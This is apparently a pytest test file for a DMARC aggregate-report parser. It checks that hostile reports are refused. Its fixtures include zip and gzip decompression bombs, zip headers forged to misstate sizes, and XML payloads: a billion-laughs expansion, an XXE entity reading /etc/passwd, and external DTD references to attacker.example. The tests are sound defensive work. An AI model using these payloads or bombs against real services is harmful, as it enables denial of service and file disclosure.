"""Hostile DMARC reports (estafeta.reports): anyone can mail one to the rua
address. Zip and gzip bombs stop at the decompression bound without ever
holding more than it; DTDs, entities and external entities are refused
(no billion laughs, no XXE); a zip must hold exactly one member; a record
flood stops at MAX_RECORDS; oversized text and element floods stop at
their bounds. Each refusal is a ReportError with its reason."""

from __future__ import annotations

import gzip
import io
import struct
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Iterator

import pytest

from _dmarc_reports import SAMPLE, gzipped, message, zipped
from estafeta.reports import unpack
from estafeta.reports.dmarc import (
    MAX_HELD,
    MAX_NODES,
    MAX_RECORDS,
    MAX_TEXT,
    ReportError,
    parse_message,
    parse_report,
)

MiB = 1024 * 1024
BOMB_SIZE = 200 * MiB  # ten times the XML bound


def _bomb_body() -> Iterator[bytes]:
    """Well-formed so far: the parser accepts every byte, only the bound stops it."""
    yield b"<feedback>"
    space = b" " * MiB
    for _ in range(BOMB_SIZE // MiB):
        yield space


def zip_bomb() -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("bomb.xml", "w", force_zip64=False) as member,
    ):
        for chunk in _bomb_body():
            member.write(chunk)
    return out.getvalue()


def gzip_bomb() -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    return b"".join(compressor.compress(c) for c in _bomb_body()) + compressor.flush()


def _expect(data: bytes, reason: str, error: str, limit: int | None = 64 * MiB) -> None:
    """``data`` is refused with ``reason``, within a minute, and never
    holding more than ``limit`` bytes of Python memory at once (None: not
    measured, tracemalloc makes a long parse several times slower)."""
    if limit is None:
        with pytest.raises(ReportError) as refused:
            parse_report(data)
        assert refused.value.reason == reason, str(refused.value)
        assert error in str(refused.value)
        return
    tracemalloc.start()
    started = time.monotonic()
    try:
        with pytest.raises(ReportError) as caught:
            parse_report(data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert caught.value.reason == reason, str(caught.value)
    assert error in str(caught.value)
    assert peak < limit, f"peak {peak} bytes"
    assert time.monotonic() - started < 60


def test_a_gzip_bomb_stops_at_the_bound() -> None:
    data = gzip_bomb()
    assert len(data) < MiB  # 200 MiB of XML in well under a megabyte
    # Exactly MAX_XML octets come out, then the refusal: nothing is inflated whole.
    produced = 0
    with pytest.raises(ReportError) as caught:
        for chunk in unpack.xml_chunks(data):
            assert len(chunk) <= unpack.CHUNK
            produced += len(chunk)
    assert caught.value.reason == "too_large"
    assert unpack.MAX_XML - unpack.CHUNK <= produced <= unpack.MAX_XML
    # Through the whole parse, memory stays far below what the bomb holds.
    _expect(data, "too_large", "larger than 20971520 octets once decompressed", limit=16 * MiB)


def test_a_zip_bomb_is_refused_by_its_declared_size_without_inflating() -> None:
    data = zip_bomb()
    assert len(data) < MiB
    with pytest.raises(ReportError) as caught:
        next(iter(unpack.xml_chunks(data)))
    assert caught.value.reason == "too_large"
    _expect(data, "too_large", "once decompressed", limit=4 * MiB)


def test_a_zip_bomb_that_understates_its_size_stops_at_the_stated_size() -> None:
    """zipfile inflates no more than the member declares, then checks the CRC."""
    data = bytearray(zip_bomb())
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        struct.pack_into("<L", data, data.index(signature) + offset, 5 * MiB)
    produced = 0
    with pytest.raises(ReportError) as caught:
        for chunk in unpack.xml_chunks(bytes(data)):
            produced += len(chunk)
    assert caught.value.reason == "archive"
    assert produced <= 5 * MiB
    _expect(bytes(data), "archive", "zip member", limit=16 * MiB)


def test_a_zip_that_declares_a_huge_member_is_refused_before_inflating() -> None:
    data = bytearray(zipped(SAMPLE))
    # The uncompressed size in the central directory (APPNOTE 4.3.12, offset 24).
    central = data.index(b"PK\x01\x02")
    struct.pack_into("<L", data, central + 24, unpack.MAX_XML + 1)
    with pytest.raises(ReportError) as caught:
        list(unpack.xml_chunks(bytes(data)))
    assert caught.value.reason == "too_large"


def test_a_zip_member_larger_than_it_declares_is_refused() -> None:
    """A lying header: zipfile stops at the declared size, then the CRC fails."""
    data = bytearray(zipped(SAMPLE))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        struct.pack_into("<L", data, data.index(signature) + offset, 100)
    _expect(bytes(data), "archive", "zip member")


@pytest.mark.parametrize(
    ("data", "error"),
    [
        (zipped(SAMPLE, "a.xml", ("b.xml", SAMPLE)), "zip archive with 2 members"),
        (zipped(SAMPLE, "a.xml", *((f"{n}.xml", b"") for n in range(5000))), "5001 members"),
        (b"PK\x05\x06" + b"\0" * 18, "zip archive with 0 members"),
        (zipped(SAMPLE)[:-22], "no end of central directory"),
        (zipped(SAMPLE)[:200] + zipped(SAMPLE)[-22:], "not a readable zip archive"),
    ],
    ids=["two-members", "many-members", "empty", "no-directory", "truncated"],
)
def test_zip_archives_other_than_one_member(data: bytes, error: str) -> None:
    _expect(data, "archive", error)


def _patched(offsets: list[tuple[bytes, int, str, int]]) -> bytes:
    data = bytearray(zipped(SAMPLE))
    for signature, offset, fmt, value in offsets:
        struct.pack_into(fmt, data, data.index(signature) + offset, value)
    return bytes(data)


@pytest.mark.parametrize(
    ("data", "error"),
    [
        # APPNOTE 4.4.3: a "version needed to extract" zipfile does not know.
        (_patched([(b"PK\x01\x02", 6, "<H", 68)]), "zip file version 6.8"),
        # APPNOTE 4.4.4: bit 0 encrypted, bit 6 strong encryption.
        (_patched([(b"PK\x01\x02", 8, "<H", 0x01), (b"PK\x03\x04", 6, "<H", 0x01)]), "encrypted"),
        (_patched([(b"PK\x01\x02", 8, "<H", 0x40), (b"PK\x03\x04", 6, "<H", 0x40)]), "encrypted"),
    ],
    ids=["version", "encrypted", "strong-encryption"],
)
def test_zip_features_we_do_not_read(data: bytes, error: str) -> None:
    _expect(data, "archive", error)


def test_zip_member_compressed_otherwise_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_BZIP2) as archive:
        archive.writestr("r.xml", SAMPLE)
    _expect(out.getvalue(), "archive", "only stored and deflated")


def test_a_zip_directory_member_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo("dir/"), b"")
    _expect(out.getvalue(), "archive", "is a directory")


@pytest.mark.parametrize(
    ("data", "error"),
    [
        (gzipped(SAMPLE)[:-20], "truncated gzip data"),
        (gzipped(SAMPLE) + b"trailing junk", "data after the end of the gzip stream"),
        (gzipped(SAMPLE)[:-8] + b"\0\0\0\0" + gzipped(SAMPLE)[-4:], "not valid gzip data"),
        (gzipped(b"") * (unpack.MAX_GZIP_MEMBERS + 1), "more than 16 gzip members"),
    ],
    ids=["truncated", "trailing-junk", "bad-crc", "member-flood"],
)
def test_gzip_streams_that_are_not_one_report(data: bytes, error: str) -> None:
    _expect(data, "archive", error)


def test_gzip_zero_padding_after_the_stream_is_allowed() -> None:
    assert parse_report(gzipped(SAMPLE) + b"\0" * 512).messages == 14


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE feedback [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<feedback><report_metadata><org_name>&lol9;</org_name></report_metadata></feedback>
"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE feedback [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<feedback><report_metadata><org_name>&xxe;</org_name></report_metadata></feedback>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE feedback SYSTEM "http://attacker.example/feedback.dtd">
<feedback/>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE feedback [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>
<feedback/>
"""


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PARAMETER_ENTITY, gzipped(BILLION_LAUGHS)],
    ids=["billion-laughs", "xxe", "external-dtd", "parameter-entity", "gzipped"],
)
def test_dtds_and_entities_are_refused(data: bytes) -> None:
    _expect(data, "dtd", "DOCTYPE or entity declaration")


def test_an_undeclared_entity_is_not_well_formed() -> None:
    data = SAMPLE.replace(b"Receiver Example", b"&xxe;")
    _expect(data, "xml", "undefined entity")


def test_dtd_refused_in_a_message_too() -> None:
    with pytest.raises(ReportError) as caught:
        parse_message(message(zipped(XXE)))
    assert caught.value.reason == "dtd"


def _record(n: int) -> bytes:
    return (
        b"<record><row><source_ip>192.0.2.%d</source_ip><count>1</count><policy_evaluated>"
        b"<disposition>none</disposition><dkim>pass</dkim><spf>pass</spf></policy_evaluated>"
        b"</row><identifiers><header_from>example.test</header_from></identifiers>"
        b"<auth_results/></record>" % (n % 250)
    )


def _with_records(n: int) -> bytes:
    head, _, _ = SAMPLE.partition(b"<record>")
    return head + b"".join(_record(i) for i in range(n)) + b"</feedback>"


def test_a_record_flood_stops_at_max_records() -> None:
    at_limit = parse_report(gzipped(_with_records(MAX_RECORDS)))
    assert len(at_limit.records) == MAX_RECORDS
    data = gzipped(_with_records(MAX_RECORDS + 1))
    assert len(data) < unpack.MAX_XML  # the record bound, not the size bound, stops it
    _expect(data, "too_many_records", f"more than {MAX_RECORDS} records", limit=None)


@pytest.mark.parametrize(
    ("data", "error"),
    [
        (
            SAMPLE.replace(b"<comment>", b"<comment>" + b"x" * (MAX_TEXT + 1)),
            f"<comment> has more than {MAX_TEXT} characters",
        ),
        (
            SAMPLE.replace(
                b"<auth_results>", b"<auth_results>" + (b"<x>" + b"<y/>" * 900 + b"</x>") * 5, 1
            ),
            f"<record> has more than {MAX_NODES} elements",
        ),
        (
            SAMPLE.replace(
                b"<auth_results>",
                b"<auth_results>" + (b"<x>" + b"y" * 60_000 + b"</x>") * (MAX_HELD // 60_000 + 1),
                1,
            ),
            f"<record> has more than {MAX_HELD} characters",
        ),
        (
            SAMPLE.replace(b"<row>", b"<row>" + b"<x>" * 20 + b"</x>" * 20, 1),
            "nested more than 16 deep",
        ),
    ],
    ids=["long-text", "element-flood", "text-flood", "deep"],
)
def test_bounds_inside_a_record(data: bytes, error: str) -> None:
    with pytest.raises(ReportError) as caught:
        parse_report(data)
    assert error in str(caught.value)


def test_an_oversized_message_is_refused_before_parsing() -> None:
    with pytest.raises(ReportError) as caught:
        parse_message(b"Subject: x\r\n\r\n" + b"x" * (unpack.MAX_MESSAGE + 1))
    assert caught.value.reason == "too_large"


def test_an_oversized_plain_xml_is_refused_before_parsing() -> None:
    _expect(b"<feedback>" + b" " * unpack.MAX_XML + b"</feedback>", "too_large", "report XML")


def test_gzip_module_agrees_with_the_sample() -> None:
    """The gzip fixture is what the gzip module makes (a sanity check of the helper)."""
    assert gzip.decompress(gzipped(SAMPLE)) == SAMPLE
